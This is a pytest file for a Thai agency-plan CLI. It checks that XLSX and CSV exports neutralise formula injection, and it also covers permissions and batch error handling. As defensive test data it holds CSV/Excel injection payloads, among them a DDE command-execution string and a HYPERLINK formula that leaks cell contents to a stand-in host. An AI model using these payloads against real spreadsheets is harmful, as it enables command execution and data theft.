"""What the outputs do with hostile text and what the files look like afterwards: formulas stay text (and
come back from the tracking sheet as the officer's text), modes follow the umask or the file, a batch
accounts for every row and goes on."""

from __future__ import annotations

import csv
import datetime as _dt
import json
import os
import stat
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from conftest import ROOT
from itaplan.cli import main

EXAMPLE = ROOT / "tests" / "data" / "example-2568.yaml"


def run(*args: str):
    return CliRunner().invoke(main, ["-q", *args])


def _plan(tmp_path: Path) -> tuple[Path, list[str]]:
    plan = tmp_path / "plan.yaml"
    assert run("draft", str(EXAMPLE), "-o", str(plan)).exit_code == 0
    return plan, [m["id"] for m in yaml.safe_load(plan.read_text(encoding="utf-8"))["measures"]]


# -- 5. formula injection, and the round trip through the tracking sheet ----------------------------------

def test_formula_text_is_text_in_xlsx_and_comes_back(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    plan, ids = _plan(tmp_path)
    texts = {"--done": "=HYPERLINK(\"http://evil\",\"x\")", "--outcome": "-ลดขั้นตอน 3 ขั้น",
             "--suggestion": "@SUM(A1)", "--note": "+66 81 234 5678"}
    args = [a for pair in texts.items() for a in pair]
    result = run("progress", str(plan), "--measure", ids[0], "--status", "in progress", *args, "--as-of", "1/1/2569")
    assert result.exit_code == 0, result.output
    sheet = tmp_path / "tracking.xlsx"
    assert run("render", str(plan), "--format", "xlsx", "-o", str(sheet)).exit_code == 0
    workbook = load_workbook(sheet)
    assert not [c.coordinate for ws in workbook for row in ws.iter_rows() for c in row if c.data_type == "f"]
    # read back untouched: the officer's text stays as it was
    result = run("progress", str(plan), "--from", str(sheet), "--as-of", "1/1/2569")
    assert result.exit_code == 0, result.output
    measure = yaml.safe_load(plan.read_text(encoding="utf-8"))["measures"][0]
    assert measure["progress"]["done"] == texts["--done"]
    assert measure["progress"]["outcome"] == texts["--outcome"]
    assert measure["progress"]["suggestion"] == texts["--suggestion"]
    assert measure["note"] == texts["--note"]


@pytest.mark.parametrize("name", ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?leak="&B5,"open")'])
def test_an_agency_named_like_a_formula_is_text_in_every_cell_of_every_sheet(tmp_path: Path, name: str) -> None:
    """The second attack, item 1: the title rows above the table were written before cells were neutralised, so
    the agency's name became a live formula in A2 of both sheets (draft and batch alike)."""
    from openpyxl import load_workbook

    quoted = '"' + name.replace('"', '""') + '"'  # as a CSV cell
    results = tmp_path / "results.csv"
    results.write_text("fiscal_year,2568\nagency," + quoted + "\ncode,score\ni1,80\no1,0\n", encoding="utf-8")
    drafted = tmp_path / "plan.xlsx"
    assert run("draft", str(results), "-o", str(drafted)).exit_code == 0
    table = tmp_path / "many.csv"
    table.write_text("agency,fiscal_year,i1,o1\n" + quoted + ",2568,80,0\n", encoding="utf-8")
    out = tmp_path / "out"
    assert run("batch", str(table), "-o", str(out), "--format", "xlsx", "--jobs", "1").exit_code == 0
    for path in [drafted, *out.glob("*.xlsx")]:
        workbook = load_workbook(path)
        cells = [c for ws in workbook for row in ws.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], path
        assert any(c.value == name for c in cells), path  # the name is there, as text


def test_formula_text_is_neutralised_in_csv(tmp_path: Path) -> None:
    plan, _ = _plan(tmp_path)
    data = yaml.safe_load(plan.read_text(encoding="utf-8"))
    data["measures"][0]["owner"] = "=cmd|' /C calc'!A0"
    data["measures"][0]["title"] = "-2+3"
    plan.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    result = run("render", str(plan), "--format", "csv", "--csv-keys", "en")
    assert result.exit_code == 0, result.output
    row = next(r for r in csv.DictReader(result.stdout.splitlines()) if r["id"] == data["measures"][0]["id"])
    assert row["owner"] == "'=cmd|' /C calc'!A0" and row["title"] == "'-2+3"


def test_control_characters_saved_by_progress_do_not_break_word_or_excel(tmp_path: Path) -> None:
    plan, ids = _plan(tmp_path)
    result = run("progress", str(plan), "--measure", ids[0], "--status", "in progress", "--done",
                 "ทำแล้ว\x0b\x01\x1f ok", "--as-of", "1/1/2569")
    assert result.exit_code == 0, result.output
    for fmt in ("docx", "xlsx", "md", "html"):
        result = run("render", str(plan), "--format", fmt, "-o", str(tmp_path / f"out.{fmt}"))
        assert result.exit_code == 0, (fmt, result.output)
    assert run("report", str(plan), "--format", "docx", "-o", str(tmp_path / "report.docx")).exit_code == 0


def test_an_excel_date_typed_with_a_buddhist_year_is_read_as_one(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    plan, ids = _plan(tmp_path)
    sheet = tmp_path / "tracking.xlsx"
    assert run("render", str(plan), "--format", "xlsx", "-o", str(sheet)).exit_code == 0
    workbook = load_workbook(sheet)
    ws = workbook.worksheets[0]
    header = [c.value for c in ws[3]]  # below the two title rows
    ws.cell(row=4, column=header.index("สถานะ") + 1 if "สถานะ" in header else 9).value = "done"
    ws.cell(row=4, column=10).value = "เปิดระบบแล้ว"
    ws.cell(row=4, column=13).value = _dt.datetime(2569, 3, 15)  # '15/3/2569' as Excel stores it
    workbook.save(sheet)
    result = run("progress", str(plan), "--from", str(sheet), "--as-of", "1/4/2569")
    assert result.exit_code == 0, result.output
    measure = yaml.safe_load(plan.read_text(encoding="utf-8"))["measures"][0]
    assert measure["progress"]["finished"] == "2026-03-15"


# -- 6. permissions ----------------------------------------------------------------------------------------

def test_new_files_follow_the_umask_and_updates_keep_the_mode(tmp_path: Path) -> None:
    old = os.umask(0o002)
    try:
        plan, ids = _plan(tmp_path)
        assert stat.S_IMODE(plan.stat().st_mode) == 0o664
        os.chmod(plan, 0o640)
        assert run("progress", str(plan), "--measure", ids[0], "--note", "x", "--as-of", "1/1/2569").exit_code == 0
        assert stat.S_IMODE(plan.stat().st_mode) == 0o640
    finally:
        os.umask(old)


@pytest.mark.skipif(os.geteuid() == 0, reason="root may write anywhere")
def test_permission_denied_is_a_located_error(tmp_path: Path) -> None:
    folder = tmp_path / "locked"
    folder.mkdir()
    folder.chmod(0o500)
    try:
        result = run("draft", str(EXAMPLE), "-o", str(folder / "plan.yaml"))
        assert result.exit_code == 2 and "permission denied" in result.output
    finally:
        folder.chmod(0o700)


# -- 3, 4. batch -----------------------------------------------------------------------------------------------

def test_a_batch_accounts_for_every_row_and_goes_on(tmp_path: Path) -> None:
    long_thai = "องค์การบริหารส่วนตำบล" * 5  # 105 characters, 315 bytes
    lines = ["agency,fiscal_year,i1,i2,o12",
             "อบต.หนึ่ง,2566,90,70,100",
             'อบต.สอง,2566,"90,70,100',      # a stray quote: this row only
             "อบต.สาม,2566,90,70,100",
             ",2566,90,70,100",               # no agency
             "อบต.สี่,2566,90",               # truncated
             "summary,2566,90,70,100",        # would be overwritten by summary.csv
             f"{long_thai},2566,90,70,100",
             "อบต.\x0bห้า,2566,90,70,100",     # a vertical tab, into Word and Excel
             "อบต.หก,2568²,90,70,100",        # superscript digits
             "=HYPERLINK(\"x\"),2566,90,70,100"]
    data = ("\n".join(lines) + "\n").encode("utf-8") + b"\xff\xfe,2566,1,2,3\n" + "อบต.เจ็ด,2566,1,2,3\n".encode()
    table = tmp_path / "b.csv"
    table.write_bytes(data)
    out = tmp_path / "out"
    result = run("batch", str(table), "-o", str(out), "--format", "json", "--format", "docx", "--format", "xlsx",
                 "--jobs", "1")
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output and "internal error" not in result.output
    rows = list(csv.DictReader((out / "agencies.csv").open(encoding="utf-8")))
    assert [int(r["row"]) for r in rows] == list(range(2, 14))  # every row of the file, once
    status = {int(r["row"]): r["status"] for r in rows}
    assert {n for n, s in status.items() if s == "failed"} == {3, 5, 6, 10, 12}
    errors = {int(r["row"]): r["error"] for r in rows}
    assert "row 3: has a quote" in errors[3] and "row 5: has no agency name" in errors[5]
    assert "row 6: has 3 cells" in errors[6] and "'2568²' is not a fiscal year" in errors[10]
    assert "row 12: is not UTF-8" in errors[12]
    names = {p.name for p in out.iterdir()}
    assert "summary.csv" in names and "summary_.json" in names
    assert all(len(n.encode()) <= 200 for n in names)
    assert any(n.startswith("องค์การบริหารส่วนตำบล") and n.endswith(".docx") for n in names)
    assert {int(r["row"]): r["agency"] for r in rows}[11] == "'=HYPERLINK(\"x\")"  # text, not a formula
    summary = {(r["what"], r["key"]): r["count"] for r in csv.DictReader((out / "summary.csv").open(encoding="utf-8"))}
    assert summary[("total", "agencies")] == "12" and summary[("total", "failed")] == "5"


def test_a_resumed_batch_summarises_every_agency(tmp_path: Path) -> None:
    folder = tmp_path / "results"
    folder.mkdir()
    for name in ("a", "b"):
        (folder / f"{name}.yaml").write_text(EXAMPLE.read_text(encoding="utf-8"), encoding="utf-8")
    out = tmp_path / "out"
    assert run("batch", str(folder), "-o", str(out), "--jobs", "1").exit_code == 0
    (out / "b.json").unlink()
    assert run("batch", str(folder), "-o", str(out), "--jobs", "1", "--resume").exit_code == 0
    summary = {(r["what"], r["key"]): r["count"] for r in csv.DictReader((out / "summary.csv").open(encoding="utf-8"))}
    assert summary[("total", "drafted")] == "1" and summary[("total", "skipped")] == "1"
    assert sum(int(c) for (what, _), c in summary.items() if what == "level") == 2
    rows = {r["agency"]: r for r in csv.DictReader((out / "agencies.csv").open(encoding="utf-8"))}
    assert rows["a"]["status"] == "skipped" and rows["b"]["status"] == "drafted"
    assert rows["a"]["total"] == rows["b"]["total"] != "" and rows["a"]["level"]
    assert json.loads((out / "b.json").read_text(encoding="utf-8"))["scores"]["total"]


def test_one_agency_failing_in_an_unforeseen_way_does_not_stop_the_batch(tmp_path: Path, monkeypatch) -> None:
    import itaplan.app.batch

    real = itaplan.app.batch.render

    def flaky(plan, fmt, **kw):
        if plan["agency"]["name"] == "อบต.สอง":
            raise RuntimeError("boom")
        return real(plan, fmt, **kw)

    monkeypatch.setattr(itaplan.app.batch, "render", flaky)
    table = tmp_path / "w.csv"
    table.write_text("agency,fiscal_year,i1\nอบต.หนึ่ง,2566,90\nอบต.สอง,2566,90\nอบต.สาม,2566,90\n", encoding="utf-8")
    out = tmp_path / "out"
    result = run("batch", str(table), "-o", str(out), "--jobs", "1")
    assert result.exit_code == 1
    rows = {r["agency"]: r for r in csv.DictReader((out / "agencies.csv").open(encoding="utf-8"))}
    assert rows["อบต.สอง"]["status"] == "failed" and "row 3" in rows["อบต.สอง"]["error"]
    assert rows["อบต.สาม"]["status"] == "drafted" and (out / "อบต.สาม.json").exists()


# -- 7. hand-edited plans -------------------------------------------------------------------------------------

@pytest.mark.parametrize("path", ["scores.total", "scores.tools.IIT", "scores.indicators.0.score", "agency.district",
                                  "measures.0.method", "analysis.issues"])
def test_a_wrong_type_in_a_hand_edited_plan_is_a_located_error(tmp_path: Path, path: str) -> None:
    plan, _ = _plan(tmp_path)
    data = yaml.safe_load(plan.read_text(encoding="utf-8"))
    node = data
    keys = [int(k) if k.isdigit() else k for k in path.split(".")]
    for key in keys[:-1]:
        node = node[key]
    node[keys[-1]] = -5 if path.startswith("agency") else "abc"
    plan.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    for args in (["render", str(plan), "--format", "docx", "-o", str(tmp_path / "out.docx")],
                 ["report", str(plan), "--format", "md"], ["review", str(plan), "--plain"]):
        result = run(*args)
        assert result.exit_code == 2 and "plan.yaml:" in result.output, (args[0], result.output[-500:])
        assert "internal error" not in result.output
    assert not (tmp_path / "out.docx").exists()
